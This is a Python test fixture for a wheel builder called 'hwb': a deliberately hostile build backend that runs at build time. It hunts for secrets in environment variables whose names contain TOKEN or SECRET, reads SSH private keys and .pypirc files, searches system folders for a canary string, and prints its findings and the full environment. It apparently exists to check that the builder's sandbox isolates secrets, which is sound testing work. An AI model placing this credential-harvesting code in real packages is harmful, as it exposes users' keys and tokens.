# SPDX-License-Identifier: Apache-2.0
"""Escape test: a backend that hunts for the user's secrets. It prints what
it found; hwb's tests assert that it found nothing and that the secret
value appears in no log."""
import os


def _hunt(marker):
    found = []
    for name, value in os.environ.items():
        if marker in value or "TOKEN" in name or "SECRET" in name:
            found.append("env:" + name)
    for path in ("~/.ssh/id_rsa", "~/.pypirc", "/root/.ssh/id_rsa", "/root/.pypirc"):
        try:
            with open(os.path.expanduser(path)) as f:
                found.append("file:" + path + ":" + f.read(200))
        except OSError:
            pass
    for top in ("/home", "/root", "/src", "/tmp", "/etc", "/work"):
        for root, dirs, files in os.walk(top):
            for f in files:
                try:
                    with open(os.path.join(root, f), "rb") as fh:
                        if marker.encode() in fh.read(1 << 16):
                            found.append("file:" + os.path.join(root, f))
                except OSError:
                    pass
    return found


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    # Built at run time so that this file does not match itself.
    found = _hunt("-".join(["hwb", "canary", ""]))
    print("evil-secrets: found=%d %s" % (len(found), found), flush=True)
    # Print the whole environment: a leak would show in the log.
    print("evil-secrets: environ=%r" % dict(os.environ), flush=True)
    raise SystemExit(3 if found else 0)


def build_sdist(sdist_directory, config_settings=None):
    return build_wheel(sdist_directory, config_settings)
